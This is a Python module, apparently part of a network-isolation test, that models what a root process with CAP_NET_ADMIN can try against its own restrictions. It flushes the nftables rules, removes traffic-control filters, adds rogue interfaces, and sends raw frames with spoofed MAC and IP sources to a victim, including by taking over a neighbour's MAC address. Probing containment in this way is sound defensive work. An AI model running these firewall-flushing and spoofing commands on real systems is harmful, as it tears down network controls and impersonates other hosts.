"""Whatever root with CAP_NET_ADMIN can try, at its own interface, against what it is held to."""
import subprocess

# Each may fail, as the kernel likes.
LIFTS = """
nft flush ruleset
tc filter del dev eth0 egress
tc filter del dev eth0 ingress
tc qdisc del dev eth0 clsact
tc qdisc del dev eth0 root
tc qdisc replace dev eth0 root pfifo
ip link set eth0 xdp off
ip link set eth0 mtu 9000
ip link set eth0 promisc on
ip link set eth0 down
ip link set eth0 up
ip address add 10.64.77.7/16 dev eth0
ip neighbour flush dev eth0
ip link add link eth0 name e7 type macvlan mode bridge
ip link add link eth0 name v7 type vlan id 7
ip link add b7 type bridge
ip link set e7 up
ip link set v7 up
ethtool -K eth0 tso on gso on tx on
"""


def do(commands):
    for command in commands.strip().splitlines():
        subprocess.run(command.split(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def frames(senders, targets, addresses, word):
    """One of every kind from all of these to all of those."""
    group = mac("01:00:5e:00:00:01")
    for sender in senders:
        for to in targets + [b"\xff" * 6, group]:
            for source in addresses:
                packet = packet4(17, udp(7, 5001, word), source, VICTIM_IP)
                yield frame4(to, sender, packet)
                yield to + sender + b"\x81\x00\x00\x07\x08\x00" + packet
                yield to + sender + b"\x88\xb5" + word


def attack(word):
    me = own()
    do(LIFTS)
    s = raw()
    everybody = [me, FRIEND, mac("02:de:ad:00:00:01")]
    for frame in frames(everybody, [VICTIM], [EVIL_IP, FRIEND_IP, "10.64.77.7"], word):
        try_send(s, frame)
    # The kernel itself under another's addresses.
    do("ip link set eth0 down\nip link set eth0 address " + FRIEND.hex(":") + "\nip link set eth0 up")
    for frame in frames([FRIEND], [VICTIM], [FRIEND_IP], word):
        try_send(s, frame)
    do("ip link set eth0 down\nip link set eth0 address " + me.hex(":") + "\nip link set eth0 up")
    do("ip link del e7\nip link del v7\nip link del b7\nip link set eth0 mtu 1500\ntc qdisc del dev eth0 root")
